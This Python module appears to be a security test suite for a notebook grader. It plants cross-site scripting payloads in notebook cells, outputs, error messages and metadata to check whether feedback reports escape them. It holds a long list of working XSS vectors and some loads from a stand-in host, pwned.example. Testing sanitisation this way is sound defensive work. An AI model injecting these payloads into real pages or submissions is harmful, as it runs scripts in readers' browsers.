"""Content that would run in the browser of whoever reads the feedback or the report.

Every payload calls PWNED(), or loads something from pwned.example.
"""

import nbformat

from . import Book, attack

SCRIPTS = (
    "<script>PWNED()</script>",
    "<ScRiPt src='//pwned.example/x.js'></sCrIpT>",
    "<img src=x onerror=PWNED()>",
    "<img src='https://pwned.example/pixel.png'>",
    "<svg onload=PWNED()><script>PWNED()</script><a xlink:href='javascript:PWNED()'>x</a></svg>",
    "<svg><animate onbegin=PWNED() attributeName=x dur=1s><foreignObject><body onload=PWNED()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=PWNED()&gt;'>",
    "<iframe srcdoc='<script>parent.PWNED()</script>'></iframe><iframe src='javascript:PWNED()'>",
    "<object data='data:text/html,<script>PWNED()</script>'></object><embed src='javascript:PWNED()'>",
    "<a href='javascript:PWNED()'>a</a><a href=' jAvA&#x09;ScRiPt:PWNED()'>b</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+'>c</a>",
    "<form action='https://pwned.example'><button formaction='javascript:PWNED()'>ok</button></form>",
    "<meta http-equiv='refresh' content='0;url=https://pwned.example'><base href='https://pwned.example/'>",
    "<link rel=stylesheet href='https://pwned.example/x.css'><style>@import 'https://pwned.example'</style>",
    "<div style='background:url(https://pwned.example/x.png);position:fixed;inset:0'>full points</div>",
    "<details open ontoggle=PWNED()><input autofocus onfocus=PWNED()><marquee onstart=PWNED()>",
    "<template><script>PWNED()</script></template><noscript><p title='</noscript><img src=x onerror=PWNED()>'>",
    "--></textarea></title></pre></script></style></div></body></html><script>PWNED()</script>",
    '<img src="x" alt="`" onerror="PWNED()"\n/x=\'\'>\x00<scr\x00ipt>PWNED()</scr\x00ipt>',
)
MARKDOWN = (
    "[a](javascript:PWNED()) [b]( javascript:PWNED()) ![c](javascript:PWNED())",
    "[d](data:text/html,<script>PWNED()</script>) <javascript:PWNED()>",
    "![e](https://pwned.example/pixel.png) [f]: javascript:PWNED()",
    "$\\href{javascript:PWNED()}{x}$ $$</script><script>PWNED()</script>$$",
    "```html\n</code></pre><script>PWNED()</script>\n```",
    "# <script>PWNED()</script>\n\n| <img src=x onerror=PWNED()> |\n|---|\n| x |",
)


@attack()
def html_outputs(book: Book) -> None:
    """Displays every script as HTML, SVG, LaTeX, Markdown, JavaScript and a widget."""
    book.add(
        f"""
        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

        for script in {SCRIPTS!r}:
            display(HTML(script))
            display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>",
                     "text/latex": script, "text/markdown": script, "text/plain": script}}, raw=True)
        for text in {MARKDOWN!r}:
            display(Markdown(text)), display(Latex(text))
        display(Javascript("PWNED()"))
        display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>PWNED()</script>"}},
                 "application/vnd.plotly.v1+json": {{"x": "</script><script>PWNED()"}},
                 "application/pdf": "PWNED", "text/x-evil": "<script>PWNED()</script>"}}, raw=True)
        """
    )


@attack()
def markdown_cells(book: Book) -> None:
    """Markdown and raw cells that hold scripts, the question in words too."""
    for text in (*SCRIPTS, *MARKDOWN):
        book.add(text, kind="markdown")
    book.add("<script>PWNED()</script>", kind="raw").metadata["raw_mimetype"] = "text/html"
    book.answer("words", "\n\n".join((*SCRIPTS, *MARKDOWN)))
    book.cells[0].source = "# <script>PWNED()</script>"
    cell = book.add("![x](attachment:x)", kind="markdown")
    cell["attachments"] = {"x": {"image/svg+xml": SCRIPTS[4], "text/html": SCRIPTS[0]}}


@attack()
def image_outputs(book: Book) -> None:
    """Images whose data end the attribute that they stand in, and metadata that do."""
    book.add(
        """
        from IPython.display import display
        for kind in ("image/png", "image/jpeg", "image/gif"):
            out = "'\\"><script>PWNED()</script><img src=x onerror=PWNED() \\""
            display({kind: out, "text/plain": "x"}, raw=True, metadata={kind: {"width": out, "height": out, "alt": out}})
        """
    )


@attack()
def words_of_errors(book: Book) -> None:
    """Scripts in the names and words of exceptions, in streams, in ANSI colours, in the source."""
    book.add(
        f"""
        import sys

        for script in {SCRIPTS!r}:
            print(script)
            print("\\x1b[31m" + script + "\\x1b]8;;javascript:PWNED()\\x07x\\x1b]8;;\\x07", file=sys.stderr)
        """
    )
    book.add(
        "raise type('<script>PWNED()</script>', (Exception,), {})('<img src=x onerror=PWNED()>')"
    )
    book.add("# <script>PWNED()</script></pre><img src=x onerror=PWNED()>")
    book.answer(
        "elbo",
        """
        def elbo(x, logits, mu, logvar):
            raise type("<script>PWNED()</script>", (Exception,), {})("\\x1b[2J<img src=x onerror=PWNED()>")
        """,
    )


@attack()
def stored_outputs(book: Book) -> None:
    """Such outputs stand in the file already, in heavy cells that grading does not run."""
    for cell in book.cells:
        if "skip-execution" in cell.metadata.get("tags", []):
            cell.outputs = [
                nbformat.v4.new_output("display_data", {"text/html": script}) for script in SCRIPTS
            ]
            cell.metadata["tags"] += ["<script>PWNED()</script>", "'><img src=x onerror=PWNED()>"]
            cell["id"] = cell["id"] + "-x"
    book.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>PWNED()"}}
    }
    book.notebook.metadata["title"] = "</title><script>PWNED()</script>"
    book.notebook.metadata["authors"] = [{"name": SCRIPTS[0]}]
